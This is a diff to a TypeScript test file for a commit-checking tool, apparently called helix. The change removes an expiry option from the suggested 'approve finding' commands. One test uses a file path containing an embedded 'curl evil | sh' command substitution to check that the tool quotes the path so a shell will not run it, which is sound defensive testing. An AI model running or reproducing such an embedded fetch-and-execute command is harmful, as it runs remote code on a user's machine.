@@ -53,10 +53,10 @@ describe('what mends a commit that is there', () => {
 
   test('what has landed is not made anew: a person lets it stand', () => {
     const told = fixOf(finding('MSG-WHY'), at(earlier, { landed: true }))
-    expect(told).toBe('helix approve finding MSG-WHY bbbbbbbbbbbb --until <YYYY-MM-DD> --why "<reason>"')
+    expect(told).toBe('helix approve finding MSG-WHY bbbbbbbbbbbb --why "<reason>"')
     const link = { ...finding('PATH-LINK', 'git restore --staged src/a'), where: { path: 'src/a' } }
     const there = fixOf(link, at(earlier, { landed: true }))
-    expect(there).toBe('helix approve finding PATH-LINK src/a --until <YYYY-MM-DD> --why "<reason>"')
+    expect(there).toBe('helix approve finding PATH-LINK src/a --why "<reason>"')
   })
 
   test('notes and warnings stay as they are', () => {
@@ -68,6 +68,6 @@ describe('what mends a commit that is there', () => {
 test('a name of a file that a shell would run is written so that it does not', () => {
   const landed: Finding = { ...finding('MSG-PATH'), where: { path: 'src/$(curl evil | sh).js' } }
   expect(fixOf(landed, at(tip, { landed: true }))).toBe(
-    `helix approve finding MSG-PATH 'src/$(curl evil | sh).js' --until <YYYY-MM-DD> --why "<reason>"`,
+    `helix approve finding MSG-PATH 'src/$(curl evil | sh).js' --why "<reason>"`,
   )
 })
